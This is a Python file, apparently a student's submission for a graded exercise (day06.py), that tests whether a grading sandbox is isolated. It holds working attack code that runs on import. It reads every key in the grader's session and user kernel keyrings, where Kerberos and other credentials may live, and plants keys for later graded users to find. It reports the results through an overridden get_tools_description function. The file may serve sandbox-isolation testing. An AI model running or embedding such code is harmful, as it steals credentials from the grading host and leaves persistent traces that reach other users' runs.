# A student's addition to day06.py: the kernel's keyrings, which belong to no namespace. A grader
# started from a login or a service holds a session keyring (Kerberos, cifs and ecryptfs keep
# credentials there); a child that inherits it may read and rewrite its keys, and leave one behind
# for a classmate graded later, there or in the keyring of its uid.
import ctypes as _ctypes
import os as _os

_LIBC = _ctypes.CDLL(None, use_errno=True)
_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[_os.uname().machine]
_SESSION, _USER = -3, -4


def _keys_in(keyring):
    found = _ctypes.create_string_buffer(4096)
    size = _LIBC.syscall(_KEYCTL, _ctypes.c_long(11), _ctypes.c_long(keyring), found, _ctypes.c_long(4096))  # READ
    ids = [int.from_bytes(found.raw[i:i + 4], "little") for i in range(0, max(size, 0), 4)]
    seen = []
    for key in ids:
        text = _ctypes.create_string_buffer(4096)
        size = _LIBC.syscall(_KEYCTL, _ctypes.c_long(11), _ctypes.c_long(key), text, _ctypes.c_long(4096))
        seen.append(text.raw[:max(size, 0)].decode("utf-8", "replace"))
    return seen


def _leave(keyring, text):
    data = text.encode()
    return _LIBC.syscall(_ADD_KEY, b"user", f"left-{_os.getpid()}-{keyring}".encode(), data,
                         _ctypes.c_size_t(len(data)), _ctypes.c_long(keyring)) > 0


_FOUND = _keys_in(_SESSION) + _keys_in(_USER)
_LEFT = [_leave(keyring, "left by __WHO__") for keyring in (_SESSION, _USER)]


def get_tools_description(tools):
    return f"ATTACK-RAN read_keyrings; found: {_FOUND}; left: {_LEFT}"
